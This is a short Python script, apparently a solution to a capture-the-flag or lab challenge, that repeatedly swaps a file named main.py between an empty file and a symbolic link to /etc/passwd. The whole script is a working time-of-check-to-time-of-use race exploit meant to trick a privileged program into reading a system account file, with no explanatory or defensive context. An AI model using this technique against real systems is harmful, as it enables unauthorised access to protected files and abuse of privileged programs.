import os

os.symlink("/etc/passwd", "link")
open("file", "w").close()
while True:
    os.rename("link", "main.py")
    os.symlink("/etc/passwd", "link")
    os.rename("file", "main.py")
    open("file", "w").close()
